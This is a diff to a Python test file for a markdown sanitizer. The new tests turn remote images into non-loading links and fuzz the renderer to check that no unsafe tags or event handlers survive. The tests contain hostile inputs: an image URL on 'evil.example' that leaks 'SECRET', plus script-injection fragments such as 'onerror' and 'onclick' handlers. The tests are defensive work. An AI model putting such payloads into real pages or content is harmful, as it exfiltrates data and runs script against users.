@@ -79,10 +79,17 @@ def test_only_images_carry_a_source():
 
 
 def test_image_with_data_uri_loses_its_source():
-    assert tags_of(markdown_to_html("![chart](data:image/png;base64,iVBORw0KGgo=)")) == [
-        ("p", {}),
-        ("img", {"alt": "chart"}),
-    ]
+    html = markdown_to_html("![chart](data:image/png;base64,iVBORw0KGgo=)")
+    assert tags_of(html) == [("p", {}), ("a", {"target": "_blank", "rel": "noopener noreferrer nofollow"})]
+    assert "\N{FRAME WITH PICTURE} chart" in html
+
+
+def test_remote_images_are_links_never_loaded():
+    html = markdown_to_html("see ![t](https://evil.example/p.png?leak=SECRET) and ![r][ref]\n\n"
+                            "[ref]: http://evil.example/q.png")
+    assert "img" not in [t for t, _ in tags_of(html)]
+    links = [a["href"] for t, a in tags_of(html) if t == "a"]
+    assert links == ["https://evil.example/p.png?leak=SECRET", "http://evil.example/q.png"]
 
 
 HOSTILE_HTML = [
@@ -133,14 +140,13 @@ def test_useful_markdown_survives():
         "td",
         "pre",
         "a",
-        "img",
     ):
         assert tag in tags, tag
     links = [a for t, a in tags_of(html) if t == "a"]
-    assert [a["href"] for a in links] == ["https://example.org", "mailto:a@b.example"]
+    assert [a["href"] for a in links] == ["https://example.org", "mailto:a@b.example", "https://example.org/p.png"]
     assert all("noopener" in a["rel"] and a["target"] == "_blank" for a in links)
     attrs = dict(tags_of(html))
-    assert attrs["th"]["style"] == "text-align:right" and attrs["img"]["src"] == "https://example.org/p.png"
+    assert attrs["th"]["style"] == "text-align:right" and "img" not in attrs  # images are links (nothing loads)
     assert "x = 1 &lt; 2" in html
     assert_safe(html)
 
@@ -152,3 +158,24 @@ def test_empty_markdown_is_empty():
 def test_escape_escapes_text_and_attribute_characters():
     assert escape('<a href="x">&\'') == "&lt;a href=&quot;x&quot;&gt;&amp;&#x27;"
     assert escape(42) == "42"
+
+
+def test_property_inert_markdown_runs_and_loads_nothing():
+    import random
+
+    from markdown_it import MarkdownIt
+
+    from nb_agents.view.sanitize import inert_markdown
+
+    permissive = MarkdownIt("commonmark", {"html": True}).enable(["table"])
+    pieces = ["<", ">", "<img src=x onerror=a()>", "<script>", "</script>", "![a](https://e.x/i.png)", "![",
+              "](", ")", "[r]: https://e.x/r.png\n", "![b][r]", "`", "```\n", "\n", "\n\n", "> ", "- ", "<!--",
+              "-->", "<a href=x onclick=b()>", "\\", "&lt;", "text", " ", "|a|b|\n|-|-|\n", "<div>\n", "    "]
+    rng = random.Random(1613)
+    for _ in range(1500):
+        source = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
+        tags = tags_of(permissive.render(inert_markdown(source)))
+        assert not [t for t, _ in tags if t not in ("p", "a", "code", "pre", "blockquote", "ul", "li", "table",
+                                                   "thead", "tbody", "tr", "th", "td", "br", "hr", "em",
+                                                   "strong", "h1", "h2")], (source, tags)
+        assert not any(k.startswith("on") for _, attrs in tags for k in attrs), source
